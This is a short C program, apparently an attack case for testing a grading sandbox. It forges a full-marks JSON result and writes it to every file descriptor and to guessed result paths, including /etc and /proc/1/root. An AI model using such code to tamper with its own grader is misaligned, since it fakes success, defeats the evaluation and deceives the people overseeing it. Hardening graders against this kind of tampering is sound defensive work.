// Writes full marks to every descriptor, and wherever the grader may keep its result.
#include "attack.h"
#include "house.h"

static const char result[] =
    "{\"schema\": \"ipclab/result/1\", \"score\": 100, \"max_score\": 100}\n";

static void write_to(const char* path) {
  const int fd = open(path, O_WRONLY | O_CREAT, 0644);
  tried(path, fd != -1 && write(fd, result, sizeof result - 1) > 0);
  if (fd != -1) close(fd);
}

int main(void) {
  int written = 0;
  for (int fd = 3; fd < 1024; ++fd) written += write(fd, result, sizeof result - 1) > 0;
  tried("every descriptor from 3", written);
  const char* paths[] = {RESULT,
                         HOUSE "/result.json",
                         "/result.json",
                         "/etc/result.json",
                         "/proc/1/cwd/result.json",
                         "/proc/1/root/result.json"};
  for (size_t i = 0; i < sizeof paths / sizeof *paths; ++i) write_to(paths[i]);
  return 0;
}
